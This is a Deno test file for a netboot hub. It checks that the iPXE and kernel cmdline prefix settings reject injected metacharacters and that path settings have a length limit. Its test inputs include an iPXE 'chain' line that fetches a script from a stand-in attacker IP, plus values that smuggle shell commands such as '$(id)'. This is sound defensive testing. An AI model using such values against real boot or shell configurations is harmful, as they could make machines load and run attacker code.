/**
 * Issue 24 item 6: `ipxeCmdlinePrefix` and `cmdlinePrefix` must be plain kernel arguments (an
 * iPXE `||`, `${…}` or shell metacharacter would let the setting chain another script), and
 * every path setting has a length limit. Refusals are 400s that name the field.
 */
import { ERROR_STATUS } from "../../hub/http/errors.ts";
import assert from "node:assert/strict";
import { renderIpxeScript } from "../../hub/netboot/render/cmdline.ts";
import { renderDnsmasqConf } from "../../hub/netboot/render/dnsmasq.ts";
import { NetbootConfigError } from "../../hub/netboot/settings/errors.ts";
import { loadNetbootSettings } from "../../hub/netboot/settings/settings_file.ts";
import { netbootSettings } from "../../hub/netboot/settings/settings.ts";
import { buildNodeMap } from "../../shared/node_map.ts";
import { ClusterError } from "../../shared/errors.ts";

const map = buildNodeMap();

const INJECTIONS = [
  "console=ttyS0 || chain http://6.6.6.6/evil.ipxe || echo",
  "console=ttyS0 ${net0/mac}",
  "console=ttyS0 && shell",
  "console=ttyS0; shell",
  "console=ttyS0 `id`",
  "console=ttyS0 $(id)",
  "console=ttyS0 > /tmp/x",
  "console=ttyS0 #comment",
  "console=ttyS0\tquiet",
  "console=ttyS0 :label",
  "quiet\\",
];

Deno.test("ipxeCmdlinePrefix and cmdlinePrefix refuse anything but plain kernel arguments", () => {
  for (const field of ["ipxeCmdlinePrefix", "cmdlinePrefix"] as const) {
    for (const value of INJECTIONS) {
      assert.throws(
        () => renderIpxeScript(map, netbootSettings({ [field]: value }), 7),
        (err: unknown) => {
          assert.ok(err instanceof NetbootConfigError, `${field}=${value}: ${err}`);
          assert.equal(ERROR_STATUS[err.code], 400);
          assert.match(err.message, new RegExp(`^${field} `), err.message);
          assert.deepEqual(err.details, { field });
          return true;
        },
      );
    }
  }
  // Plain arguments still pass, commas, colons, slashes, dots and '=' included.
  const ok = "console=ttyS0,115200 net.ifnames=0 root=/dev/nfs ip=::::node07:eth0:dhcp quiet";
  const script = renderIpxeScript(map, netbootSettings({ ipxeCmdlinePrefix: ok }), 7);
  assert.ok(script.includes(ok), script);
  assert.ok(renderDnsmasqConf(map, netbootSettings({ cmdlinePrefix: ok })).length > 0);
});

Deno.test("path settings have a length limit, named in a 400", () => {
  const long = "/" + "a".repeat(4999);
  for (const key of ["tftpRoot", "nfsRoot", "overlayDir", "leaseFile"]) {
    assert.throws(
      () => renderDnsmasqConf(map, netbootSettings({ paths: { [key]: long } })),
      (err: unknown) => {
        assert.ok(err instanceof NetbootConfigError, String(err));
        assert.equal(ERROR_STATUS[err.code], 400);
        assert.match(err.message, new RegExp(`^paths\\.${key} .*at most 200 characters`));
        assert.deepEqual(err.details, { field: `paths.${key}` });
        return true;
      },
    );
  }
  // The longest allowed path still renders.
  const edge = "/srv/" + "c/".repeat(97) + "x";
  assert.equal(edge.length, 200);
  renderDnsmasqConf(map, netbootSettings({ paths: { tftpRoot: edge } }));
});

Deno.test("a netboot config file with an injected prefix stops the hub with the field named", async () => {
  const dir = await Deno.makeTempDir();
  try {
    const path = `${dir}/netboot.json`;
    await Deno.writeTextFile(
      path,
      JSON.stringify({ ipxeCmdlinePrefix: "quiet || chain http://6.6.6.6/x.ipxe" }),
    );
    assert.throws(() => loadNetbootSettings(map, `${dir}/dry`, path), (err: unknown) => {
      assert.ok(err instanceof ClusterError);
      assert.equal(ERROR_STATUS[err.code], 400);
      assert.ok(err.message.includes("ipxeCmdlinePrefix"), err.message);
      assert.ok(err.message.includes(path), err.message);
      return true;
    });
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});
